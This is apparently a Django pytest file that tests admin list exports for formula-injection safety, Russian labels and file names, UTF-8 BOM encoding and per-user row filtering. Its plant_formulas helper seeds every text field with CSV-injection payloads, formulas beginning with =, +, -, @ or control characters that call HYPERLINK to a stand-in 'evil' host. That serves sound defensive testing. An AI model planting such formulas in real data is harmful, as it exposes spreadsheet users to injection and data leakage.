"""Every admin export, of every list and in every format: formula-safe,
Russian (headers, sheet, file name, the export form), names not keys."""

import csv
import io
import re
import urllib.parse

import openpyxl
import pytest
from django.contrib import admin
from django.db import models
from django.urls import NoReverseMatch, reverse
from django.utils import timezone

from accounts.models import Profile
from accounts.services import create_user_for
from centers.models import RentalItem
from committees.models import DistrictCommittee
from core.admin_base import RegistryAdmin
from events.models import Event
from tests import factories as f

pytestmark = pytest.mark.django_db

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
DELIMITERS = {"csv": ",", "CSV (Excel, ;)": ";"}


def a_bit_of_everything():
    """A row of every registry model, through the factories."""
    campaign = f.CampaignFactory()
    body = f.TosBodyFactory(name="Рудник")
    f.ActivistFactory(tos_body=body)
    f.EventFactory(committee=body.committee, tos_body=body, campaign=campaign)
    center = f.CenterFactory()
    f.CenterEventFactory(center=center)
    f.ClubFactory(center=center)
    f.ReceptionFactory(center=center)
    f.PreventionRecordFactory(center=center)
    f.RentalItemFactory(center=center)
    f.ResultFactory(application=f.ApplicationFactory(tos_body=body))
    f.NominationFactory()
    f.InitiativeProjectFactory()
    f.NarrativeBlockFactory()
    f.YearTaskFactory()


def plant_formulas():
    """Each text field of each row of each admin's model begins with a
    character that starts a formula (choices aside: they export labels)."""
    planted = 0
    for model, _model_admin, _url in exportable_admins():
        text_fields = [
            field for field in model._meta.concrete_fields
            if isinstance(field, (models.CharField, models.TextField)) and not field.choices
        ]
        for row, pk in enumerate(model._default_manager.values_list("pk", flat=True)):
            values = {}
            for index, field in enumerate(text_fields):
                start = DANGEROUS[(row + index) % len(DANGEROUS)]
                value = f'{start}HYPERLINK("http://evil/{pk}";"{field.name}")'
                values[field.name] = value[:field.max_length] if field.max_length else value
            if values:
                model._base_manager.filter(pk=pk).update(**values)
                planted += 1
    return planted


def exportable_admins():
    for model, model_admin in admin.site._registry.items():
        if not isinstance(model_admin, RegistryAdmin):
            continue
        try:
            url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
        except NoReverseMatch:
            continue
        yield model, model_admin, url


@pytest.fixture
def staff_client(client):
    user, _ = create_user_for(username="staff", role=Profile.Role.STAFF, password=f.PASSWORD)
    client.force_login(user)
    return client


def export(client, url, model_admin, title, **params):
    """The list exported in the format titled `title`, every column."""
    form = client.get(url, params).context["form"]
    data = {name: field.initial for name, field in form.fields.items()
            if field.initial is not None}
    titles = [fmt().get_title() for fmt in model_admin.get_export_formats()]
    data["format"] = titles.index(title)
    data["resource"] = 0
    query = "?" + urllib.parse.urlencode(params) if params else ""
    response = client.post(url + query, data)
    assert response.status_code == 200, (url, title, response.content[:300])
    return response


def xlsx_rows(content):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return sheet, list(sheet.iter_rows())


def csv_rows(content, delimiter):
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""),
                           delimiter=delimiter))


def test_no_export_of_any_list_in_any_format_holds_a_live_formula(staff_client):
    a_bit_of_everything()
    assert plant_formulas() > 20
    walked = []
    for model, model_admin, url in exportable_admins():
        rows = model._default_manager.count()
        for fmt in model_admin.get_export_formats():
            title = fmt().get_title()
            content = export(staff_client, url, model_admin, title).content
            if title == "xlsx":
                _sheet, cells = xlsx_rows(content)
                values = [cell for row in cells for cell in row]
                live = [c.coordinate for c in values if c.data_type == "f"
                        or (isinstance(c.value, str) and c.value.startswith("="))]
                texts = [c.value for c in values if isinstance(c.value, str)]
            else:
                texts = [cell for row in csv_rows(content, DELIMITERS[title]) for cell in row]
                live = [cell for cell in texts if cell.startswith(DANGEROUS)]
            assert not live, (model._meta.label, title, live[:5])
            if rows:  # the planted text is there, escaped
                assert any(t.startswith("'") and "HYPERLINK" in t for t in texts), (
                    model._meta.label, title)
            walked.append((model._meta.label_lower, title))
    labels = {label for label, _title in walked}
    assert {"committees.districtcommittee", "centers.center", "centers.rentalitem",
            "events.event", "committees.territory", "events.campaign"} <= labels
    assert {title for _label, title in walked} == {"xlsx", "csv", "CSV (Excel, ;)"}


def test_semicolon_csv_is_utf8_with_bom_split_at_semicolons(admin_client):
    f.EventFactory(title="Праздник двора; и «ёлка»", committee__number=7)
    model_admin = admin.site._registry[Event]

    response = export(admin_client, reverse("admin:events_event_export"), model_admin,
                      "CSV (Excel, ;)")

    rows = csv_rows(response.content, ";")
    assert rows[0][:3] == ["Дата", "Название", "Вид"]
    assert rows[1][1] == "Праздник двора; и «ёлка»"


def test_export_form_is_russian_and_says_which_csv_is_which(admin_client):
    page = admin_client.get(reverse("admin:events_event_export")).content.decode()

    for english in ("Select all", "Tos Body", "Is Youth", "Title", "Date (", ">Submit<"):
        assert english not in page, english
    assert "Выбрать все" in page
    labels = re.findall(r'<label for="id_eventresource_\w+">([^<]+)</label>', page)
    assert labels[:3] == ["Дата", "Название", "Вид"]
    assert "CSV (Excel, ;)" in page and "точка с запятой" in page and "UTF-8 с BOM" in page


def test_list_without_a_format_has_russian_columns_and_names_not_keys(admin_client):
    center = f.CenterFactory(name="Импульс")
    f.RentalItemFactory(center=center, item="Лыжи")
    f.CommitteeFactory(number=7, territory__name="Кировский район")
    model_admin = admin.site._registry[RentalItem]

    content = export(admin_client, reverse("admin:centers_rentalitem_export"), model_admin,
                     "xlsx").content

    sheet, rows = xlsx_rows(content)
    table = [[c.value for c in row] for row in rows]
    assert table[0] == ["Центр", "Инвентарь", "Количество"]
    assert table[1] == [str(center), "Лыжи", 2]
    assert sheet.title == "Пункты проката инвентарь"
    committees = csv_rows(export(admin_client, reverse(
        "admin:committees_districtcommittee_export"), admin.site._registry[DistrictCommittee],
        "csv").content, ",")
    row = dict(zip(committees[0], committees[1], strict=True))
    assert row["Территория"] == "Кировский район"
    assert row["Номер"] == "7"


def test_sheet_and_file_are_named_in_russian(admin_client):
    f.EventFactory()
    response = export(admin_client, reverse("admin:events_event_export"),
                      admin.site._registry[Event], "xlsx")

    sheet, _rows = xlsx_rows(response.content)
    assert sheet.title == "Мероприятия"
    name = f"Мероприятия-{timezone.localdate():%Y-%m-%d}.xlsx"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment")
    assert f"filename*=utf-8''{urllib.parse.quote(name)}" in disposition
    disposition.encode("ascii")  # a header any browser reads


def test_list_without_a_format_exports_only_the_users_rows(client, django_assert_max_num_queries):
    own, other = f.CenterFactory(name="Импульс"), f.CenterFactory(name="Радуга")
    f.RentalItemFactory.create_batch(30, center=own)
    f.RentalItemFactory(center=other, item="Чужие лыжи")
    user, _ = create_user_for(username="center", role=Profile.Role.CENTER, center=own,
                              password=f.PASSWORD)
    client.force_login(user)
    url = reverse("admin:centers_rentalitem_export")
    form = client.get(url).context["form"]
    data = {name: field.initial for name, field in form.fields.items()
            if field.initial is not None}
    data.update(format=1, resource=0)

    # session, user, profile, permissions..., the rows with their centers
    # in one query, the export log: not one query per row.
    with django_assert_max_num_queries(15):
        response = client.post(url, data)

    rows = csv_rows(response.content, ",")
    assert len(rows) == 31
    assert all(row[0] == str(own) for row in rows[1:])
    assert "Чужие лыжи" not in response.content.decode("utf-8-sig")
